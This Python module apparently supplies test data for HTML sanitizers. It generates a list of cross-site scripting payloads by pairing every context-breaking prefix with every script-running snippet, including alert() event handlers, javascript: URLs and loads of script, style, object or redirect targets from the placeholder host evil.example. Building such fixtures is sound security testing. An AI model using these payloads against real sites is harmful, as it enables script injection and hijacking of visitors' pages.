"""Texts that run a script, open a dialog or load something wherever they become markup.

They are made from parts, so that every way to close a context meets every way to run something.
"""

from __future__ import annotations

from itertools import product

#: Ways out of a context: text, attributes, comments, elements whose content is text.
BREAKS = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</iframe>",
    "</option></select>",
    "<![CDATA[",
    '\\">',
    "%22%3E",
    "&quot;&gt;",
)
#: Ways to run or load something.
ACTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a></sCrIpT>",
    "<img src=//evil.example/b onerror=alert(2)>",
    "<svg onload=alert(3)><script>alert(4)</script></svg>",
    "<iframe src=javascript:alert(5) srcdoc='<script>alert(6)</script>'></iframe>",
    "<a href=javascript:alert(7) autofocus onfocus=alert(8) tabindex=1>x</a>",
    "<input autofocus onfocus=alert(9)>",
    "<body onload=alert(10)>",
    "<details open ontoggle=alert(11)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    "<style>@import '//evil.example/c';*{background:url(//evil.example/d)}</style>",
    "<p style='background:url(//evil.example/e);animation:x'>x</p>",
    "<link rel=stylesheet href=//evil.example/f>",
    "<meta http-equiv=refresh content='0;url=//evil.example/g'>",
    "<base href=//evil.example/h/>",
    "<object data=//evil.example/i></object>",
    "<embed src=//evil.example/j>",
    "<form action=//evil.example/k><button autofocus>x</button></form>",
    "<video src=//evil.example/l autoplay onerror=alert(13)></video>",
    "<template><script>alert(14)</script></template>",
    '" onmouseover=alert(15) autofocus onfocus=alert(16) x="',
    "{{7103*7}}${alert(17)}",
)

PAYLOADS = tuple(f"{one}{two}" for one, two in product(BREAKS, ACTS))
